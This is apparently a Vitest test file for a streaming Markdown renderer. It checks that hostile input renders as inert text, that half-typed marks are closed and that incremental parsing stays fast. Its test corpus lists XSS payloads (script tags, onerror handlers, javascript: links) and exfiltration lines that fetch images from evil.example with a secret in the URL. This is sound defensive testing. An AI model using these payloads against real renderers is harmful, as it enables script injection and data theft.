import fc from "fast-check";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { HOSTILE, LONG, SHOWCASE } from "../../mock/answers";
import { openable } from "./address";
import { type Blocks, cut, EMPTY } from "./blocks";
import { closeOpen } from "./close";
import { Drawn } from "./Markdown";
import { segments } from "./segments";

const html = (text: string, isOpen = false) => renderToStaticMarkup(<Drawn text={text} isOpen={isOpen} />);

/** Names of elements and attributes that an answer may make; whatever else appears came from its text. */
const ELEMENTS =
  /^(div|p|h[3-6]|strong|em|del|code|br|hr|blockquote|ol|ul|li|span|figure|figcaption|pre|button|svg|path|rect|circle|line|polyline|polygon|table|thead|tbody|tr|th|td|sup)$/;
const ATTRIBUTES =
  /^(class|style|type|title|aria-[a-z]+|role|tabindex|data-(level|align|kind)|start|scope|hidden|xmlns|width|height|viewBox|fill|stroke|stroke-(width|linecap|linejoin)|d|x|y|x1|x2|y1|y2|rx|ry|cx|cy|r|points)$/;

function parts(markup: string): { elements: string[]; attributes: [string, string][] } {
  const elements: string[] = [];
  const attributes: [string, string][] = [];
  for (const tag of markup.matchAll(/<([a-zA-Z][\w-]*)((?:\s+[\w-]+(?:="[^"]*")?)*)\s*\/?>/g)) {
    elements.push(tag[1]!);
    for (const one of tag[2]!.matchAll(/([\w-]+)(?:="([^"]*)")?/g)) attributes.push([one[1]!, one[2] ?? ""]);
  }
  return { elements, attributes };
}

function isInert(markup: string): void {
  const { elements, attributes } = parts(markup);
  for (const element of elements) expect(element).toMatch(ELEMENTS);
  for (const [name] of attributes) expect(name).toMatch(ATTRIBUTES);
  // Every < of the text is spelled out: what is left begins a known element.
  expect(markup.replace(/<\/?[a-zA-Z][^<>]*>/g, "")).not.toContain("<");
}

const CORPUS = [
  HOSTILE,
  '<img src=x onerror="alert(1)">',
  "<script>alert(1)</script>",
  '<a href="javascript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:x)",
  "[x](file:///etc/passwd)",
  "[x](\\\\evil\\share)",
  "![](https://evil.example/?d=SECRET)",
  "![x][y]\n\n[y]: https://evil.example/a.png",
  "[![x](https://evil.example/b.png)](https://evil.example)",
  '<svg><script xlink:href="https://evil.example"/></svg>',
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>@import url(https://evil.example/a.css)</style>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<base href=https://evil.example>",
  "`<img src=x>`",
  "```html\n<img src=https://evil.example/a.png>\n```",
  "```\n<script>",
  "$\\href{javascript:alert(1)}{x}$",
  "| <img src=x onerror=alert(1)> | b |\n|-|-|\n| [x](javascript:alert(1)) | ![](https://evil.example/c.png) |",
  "<details open ontoggle=alert(1)>",
  '<div style="background:url(https://evil.example/d.png)">x</div>',
  "[^1]: <img src=x onerror=alert(1)>\n\nx[^1]",
  "a\u202eb\u0007\u001b[2J\u0000",
  "<!-- --><img src=x onerror=alert(1)>-->",
  "<http://evil.example/\"onmouseover='alert(1)'>",
];

describe("a hostile answer", () => {
  it("is inert text, whole and at every place where it may be cut", () => {
    for (const text of CORPUS) {
      isInert(html(text));
      const step = Math.max(1, Math.floor(text.length / 40));
      for (let end = 1; end < text.length; end += step) isInert(html(text.slice(0, end), true));
    }
  });

  it("never makes an image, a frame, a link or a form", () => {
    const all = CORPUS.map((text) => html(text)).join("");
    expect(
      parts(all).elements.filter((name) => /^(img|iframe|a|form|input|object|embed|video|audio)$/.test(name)),
    ).toEqual([]);
  });

  it("opens web pages and mail, and nothing else", () => {
    expect(openable("https://example.com/a")?.href).toBe("https://example.com/a");
    expect(openable("www.example.com")?.href).toBe("https://www.example.com/");
    expect(openable("mailto:ada@example.com")?.protocol).toBe("mailto:");
    for (const address of [
      "javascript:x",
      "JAVASCRIPT:x",
      "java\tscript:x",
      "data:text/html,x",
      "file:///x",
      "x",
      "#a",
      "/a",
      "//evil",
    ]) {
      expect(openable(address)).toBeUndefined();
    }
  });

  it("of marks put together at random is inert too", () => {
    const piece = fc.constantFrom(
      "[x](",
      "javascript:a",
      ")",
      "![",
      "<img src=x onerror=a>",
      "`",
      "```",
      "\n",
      "**",
      "|",
      "-",
      "> ",
      "$",
      "$$",
      "\\(",
      "\\)",
      "\\[",
      "\\]",
      "<",
      "https://e.example",
      "a",
      "]",
      ": ",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 24 }), fc.boolean(), (pieces, isOpen) => {
        isInert(html(pieces.join(""), isOpen));
      }),
      { numRuns: 300 },
    );
  });
});

describe("a growing answer", () => {
  const grown = (text: string, step: number): Blocks => {
    let blocks = EMPTY;
    for (let end = step; end < text.length; end += step) blocks = cut(text.slice(0, end), blocks, true);
    return cut(text, blocks, false);
  };
  const shape = (blocks: Blocks) => blocks.blocks.map(({ source, node }) => [source, node.type]);

  it("has in the end the same blocks as one that came at once, however it was cut", () => {
    for (const text of [SHOWCASE, LONG, HOSTILE]) {
      for (const step of [3, 17, 64]) expect(shape(grown(text, step))).toEqual(shape(cut(text)));
    }
  });

  it("keeps what is done by identity, so that it is not drawn again", () => {
    const first = cut("One.\n\nTwo.\n\nThr", EMPTY, true);
    const next = cut("One.\n\nTwo.\n\nThree", first, true);
    expect(next.blocks[0]).toBe(first.blocks[0]);
    expect(next.blocks[1]).toBe(first.blocks[1]);
    expect(next.blocks[2]).not.toBe(first.blocks[2]);
  });

  it("has its fences where the parser has them", () => {
    for (const [text, kinds] of [
      ["a\n```js\nb\n```\nc", "markdown code markdown"],
      ["```\n```", "code"],
      ["```a`b\nc", "markdown"],
      ["~~~\n```\n~~~\n", "code"],
      ["````\n```\n````", "code"],
      ["- x\n  ```\n  y\n  ```\n", "markdown"],
      ["```\nopen", "code"],
    ] as const) {
      expect(
        segments(text)
          .map((one) => one.kind)
          .join(" "),
      ).toBe(kinds);
      const covered = segments(text).map(({ from, to }) => text.slice(from, to));
      expect(covered.join("")).toBe(text);
    }
    expect(segments("```js\nlet a;\n\n```").map((one) => one.kind === "code" && one.value)).toEqual(["let a;\n"]);
  });

  it("shows no half of a mark", () => {
    const cases: [string, string][] = [
      ["a **bo", "a **bo**"],
      ["a `co", "a `co`"],
      ["a *it", "a *it*"],
      ["see [the page](https://exam", "see the page"],
      ["see [the pa", "see the pa"],
      ["an ![image](https://ev", "an image"],
      ["a **", "a "],
      ["done **x** and", "done **x** and"],
      ["2 * 3 = 6", "2 * 3 = 6"],
      ["`a ** b` c", "`a ** b` c"],
      ["see [it](https://a.example/b_(c", "see it"],
      ["see [it](https://a.example/b_(c)", "see it"],
      ["see [it](https://a.example/b_(c))", "see [it](https://a.example/b_(c))"],
      ['see [it](https://a.example "the ti', "see it"],
      ["see [it](https://a.example/__b) and", "see [it](https://a.example/__b) and"],
      ["https://a.example/__b and **so", "https://a.example/__b and **so**"],
      ["a snake__case name", "a snake__case name"],
      ["2 ** 3 and 2 **", "2 ** 3 and 2 "],
      ["***bo", "***bo***"],
      ["- [x", "- "],
      ["- [ ]", "- "],
      ["- [x] do *it", "- [x] do *it*"],
      ["- a\n  ```js\n  let x", "- a\n  ```js\n  let x"],
      ["- a\n  ```js\n  x\n\n  2 ** 3 **4", "- a\n  ```js\n  x\n\n  2 ** 3 **4"],
      ["- ~~~\n  a ~~b", "- ~~~\n  a ~~b"],
      ["- ~~~\n  a **b\n  ~~~\n  and **so", "- ~~~\n  a **b\n  ~~~\n  and **so**"],
      ["- ```\n  a\n  ```\n  and `co", "- ```\n  a\n  ```\n  and `co`"],
      ["```inline``` and **so", "```inline``` and **so**"],
      ["| a | b |\n", "| a | b |\n|-|-|"],
      ["| a \\| b | c |\n|--", "| a \\| b | c |\n|-|-|"],
      ["| a | b |\n|---|---|\n| `x \\| y", "| a | b |\n|---|---|\n| `x \\| y`"],
      ["| a | b |\n|---|---|\n| 1 | 2 |\n", "| a | b |\n|---|---|\n| 1 | 2 |\n"],
      ["| a | b |\n|---|---|\n| 1 | 2 |\n|", "| a | b |\n|---|---|\n| 1 | 2 |\n|"],
      ["a \\", "a "],
      ["so \\(", "so "],
      ["so \\(x_1 * y", "so `\\(x_1 * y`"],
      ["**so \\[x", "**so `\\[x`**"],
      ["so \\(a ** b\\) *it", "so \\(a ** b\\) *it*"],
      ["so $$x = ", "so `$$x =`"],
      ["so $a ** b$ and", "so $a ** b$ and"],
      ["It costs $20 and **bo", "It costs $20 and **bo**"],
      ["It costs $20-$", "It costs $20-"],
      ["$x$", "$x"],
      ["1. so\n\n   \\[\n   a **b", "1. so\n\n   \\[\n   a **b"],
      ["so\n$$\n[x", "so\n$$\n[x"],
      ["\\[not a link", "\\[not a link"],
      ["a \ue000 `b` \ue000 `c", "a \ue000 `b` \ue000 `c`"],
    ];
    for (const [text, whole] of cases) expect(closeOpen(text)).toBe(whole);
  });

  it("shows no mark at any time that it does not show in the end", () => {
    const text = `See [the page (new)](https://a.example/b_(c)_d "A title"), **bold *and* more** and ~~not so~~.

1. First
   - inside, with \`code | more\`:

     \`\`\`js
     let x = 2 ** 3;

     f(**y);
     \`\`\`
   - [x] done
2. ~~~sh
   ls
   ~~~

~~~
a
~~~

| Name | Says |
|:-----|-----:|
| \`a \\| b\` | **c** |
`;
    const shown = (markup: string) => markup.replace(/<pre[\s\S]*?<\/pre>/g, "").replace(/<[^>]*>/g, "");
    for (let end = 1; end <= text.length; end++) {
      const now = shown(html(text.slice(0, end), end < text.length));
      expect(now).not.toMatch(/\*\*|~~|\]\(|```|https|\|-|:-|\[/);
    }
  });

  it("shows a formula from when it is whole, and money never as one", () => {
    const text =
      "It costs $20-$30 a month or $200 a year.\n\nSo \\(x_1 * y\\) and $a^2$, thus\n\\[\nx\n=\n- y\n\\]\nor\n\n1. $$a + b$$\n2. **\\[ c \\]**\n\nand `\\(x\\)`.";
    const formulas = (markup: string) => markup.match(/class="formula(-block)?"/g)?.length ?? 0;
    let before = 0;
    let blocks = EMPTY;
    for (let end = 1; end <= text.length; end++) {
      const now = formulas(html(text.slice(0, end), end < text.length));
      expect([text.slice(0, end), now]).toEqual([text.slice(0, end), Math.max(now, before)]);
      if (text.slice(0, end).endsWith("year.")) expect(now).toBe(0);
      before = now;
      const next = cut(text.slice(0, end), blocks, true);
      for (const [at, block] of next.blocks.entries()) expect(block.at).toBe(blocks.blocks[at]?.at ?? block.at);
      blocks = next;
    }
    expect(before).toBe(5);
  });

  it("of a megabyte of code costs no parser at each growth", () => {
    const begin = "```rust\n";
    const line = "let x = 1; // a line of code\n";
    let blocks = cut(begin, EMPTY, true);
    let text = begin;
    for (let n = 0; n < 200; n++) {
      text += line.repeat(180);
      blocks = cut(text, blocks, true);
    }
    expect(text.length).toBeGreaterThan(1_000_000);
    expect(blocks.blocks).toHaveLength(1);
    expect(html(text, true).length).toBeLessThan(60_000);
  });

  it("of one endless paragraph moves only its last piece, whatever it was cut into", () => {
    const words = Array.from({ length: 12_000 }, (_, n) => (n % 9 === 0 ? `**${n}**.` : `${n}`)).join(" ");
    let blocks = EMPTY;
    for (let at = 0; at < words.length; at += 701) {
      const next = cut(words.slice(0, at), blocks, true);
      for (const [place, block] of blocks.blocks.slice(0, -1).entries()) expect(next.blocks[place]).toBe(block);
      expect(next.blocks.at(-1)?.source.length ?? 0).toBeLessThan(5_000);
      blocks = next;
    }
    const shape = ({ blocks: all }: typeof blocks) => all.map((one) => [one.at, one.source, one.within]);
    expect(shape(cut(words, blocks))).toEqual(shape(cut(words)));
    expect(
      cut(words)
        .blocks.map((one) => one.source)
        .join(" ").length,
    ).toBeGreaterThan(words.length - 50);
    expect(html(`${words}\n\nThe end.`)).toContain("<p>The end.</p>");
  });

  it("of a list whose lines are long stays a list", () => {
    const list = [1, 2, 3, 4, 5].map((n) => `${n}. ${"word. ".repeat(180)}`).join("\n");
    expect(cut(list).blocks).toHaveLength(1);
    expect(html(list).match(/<li/g)).toHaveLength(5);
  });

  it("of a thousand nested lists or quotes is shown and does not freeze the page", () => {
    const nested = Array.from({ length: 1000 }, (_, n) => `${"  ".repeat(n)}- ${n}`).join("\n");
    isInert(html(nested));
    isInert(html(`${"> ".repeat(1000)}deep`));
    isInert(html(`${"- ".repeat(1000)}deep`));
    isInert(html(`${"[".repeat(2000)}a${"](b)".repeat(2000)}`));
    isInert(html("`".repeat(500).replace(/`/g, (_, at: number) => `${"`".repeat(at)} `)));
    isInert(html("word ".repeat(200_000)));
  });
});

describe("an answer", () => {
  it("has its table, its tasks, its code and its link", () => {
    const markup = html(SHOWCASE);
    for (const part of [
      "<table>",
      "<th ",
      'aria-label="done"',
      'aria-label="open"',
      "<figcaption",
      'class="md-link"',
      'data-align="right"',
    ]) {
      expect(markup).toContain(part);
    }
  });
});
